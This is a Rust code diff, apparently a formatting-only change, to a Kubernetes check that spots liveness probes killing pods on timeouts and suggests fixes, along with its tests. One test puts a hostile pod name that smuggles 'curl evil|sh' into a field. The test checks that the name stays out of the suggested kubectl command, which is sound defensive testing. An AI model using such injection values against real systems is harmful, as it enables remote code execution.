@@ -29,12 +29,7 @@ const TIMEOUT: i32 = 5;
 const SHOWN: usize = 3;
 
 /// How the kubelet says that a probe had no answer in time.
-const TOO_LATE: &[&str] = &[
-    "deadline exceeded",
-    "Timeout exceeded",
-    "i/o timeout",
-    "timed out",
-];
+const TOO_LATE: &[&str] = &["deadline exceeded", "Timeout exceeded", "i/o timeout", "timed out"];
 
 /// The containers of a component that their liveness probe ended, from both witnesses: the Events of a pod that is not
 /// ready, and the kills of the last hour, whose pods may have recovered.
@@ -59,16 +54,9 @@ impl<'a> Killed<'a> {
             let said = probes::said(observation, pod);
             probes::was_killed(&said, pod, observation.now).then_some((pod.name.as_str(), said))
         });
-        let kills: Vec<&ProbeKill> = observation
-            .probe_kills
-            .iter()
-            .filter(|kill| kill.component == component.as_str())
-            .collect();
-        (unready.is_some() || !kills.is_empty()).then_some(Self {
-            component,
-            unready,
-            kills,
-        })
+        let kills: Vec<&ProbeKill> =
+            observation.probe_kills.iter().filter(|kill| kill.component == component.as_str()).collect();
+        (unready.is_some() || !kills.is_empty()).then_some(Self { component, unready, kills })
     }
 
     /// Whether each probe that failed had no answer in time, in contrast to a wrong one.
@@ -76,10 +64,7 @@ impl<'a> Killed<'a> {
         let late = |words: &str| TOO_LATE.iter().any(|late| words.contains(late));
         let said = self.unready.iter().flat_map(|(_, said)| said);
         let of_liveness = said.filter(|line| line.contains("Liveness probe failed"));
-        of_liveness
-            .map(String::as_str)
-            .chain(self.kills.iter().map(|kill| kill.probe.as_str()))
-            .all(late)
+        of_liveness.map(String::as_str).chain(self.kills.iter().map(|kill| kill.probe.as_str())).all(late)
     }
 
     /// A pod that is down now is worse than one that was, and that one worse than what is over.
@@ -177,9 +162,7 @@ fn patient(installation: &Installation, component: Component) -> String {
         );
     }
     let failures = liveness_failures(installation.request_timeout);
-    let change = installation
-        .managed_by
-        .change(&[Change::Liveness(component, TIMEOUT, failures)]);
+    let change = installation.managed_by.change(&[Change::Liveness(component, TIMEOUT, failures)]);
     format!("let the probe outlast the longest request: {change}")
 }
 
@@ -225,12 +208,7 @@ mod tests {
         let found = check(&installation, &observation);
         assert_eq!(codes(&found), [Code::LivenessProbeKilling]);
         assert!(
-            found
-                .first()
-                .unwrap()
-                .evidence
-                .iter()
-                .any(|it| it.contains("context deadline exceeded")),
+            found.first().unwrap().evidence.iter().any(|it| it.contains("context deadline exceeded")),
             "{found:?}"
         );
     }
@@ -268,36 +246,23 @@ mod tests {
         "Liveness probe failed: Get \"http://10.0.0.7:8000/\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)",
         "in time"
     )]
-    #[case(
-        "Liveness probe failed: HTTP probe failed with statuscode: 404",
-        "their liveness probe fails"
-    )]
+    #[case("Liveness probe failed: HTTP probe failed with statuscode: 404", "their liveness probe fails")]
     fn the_reason_is_the_kubelets(#[case] probe: &str, #[case] expected: &str) {
         let installation = installation(&minimal());
         let mut observation = empty_observation();
         observation.probe_kills = vec![kill(probe, 2)];
         let found = check(&installation, &observation);
         assert!(found[0].message.contains(expected), "{found:#?}");
-        assert!(
-            found[0]
-                .remedy
-                .contains("kubectl -n prod logs flagsmith-api-abc --previous"),
-            "{found:#?}"
-        );
+        assert!(found[0].remedy.contains("kubectl -n prod logs flagsmith-api-abc --previous"), "{found:#?}");
     }
 
     #[test]
     fn a_hostile_name_is_no_part_of_a_command() {
         let installation = installation(&minimal());
         let mut observation = empty_observation();
-        observation.probe_kills = vec![ProbeKill {
-            pod: "x;curl evil|sh\u{1b}\n".to_owned(),
-            ..kill(LATE, 2)
-        }];
+        observation.probe_kills =
+            vec![ProbeKill { pod: "x;curl evil|sh\u{1b}\n".to_owned(), ..kill(LATE, 2) }];
         let remedy = &check(&installation, &observation)[0].remedy;
-        assert!(
-            remedy.contains("-n prod logs POD --previous") && !remedy.contains("evil"),
-            "{remedy}"
-        );
+        assert!(remedy.contains("-n prod logs POD --previous") && !remedy.contains("evil"), "{remedy}");
     }
 }
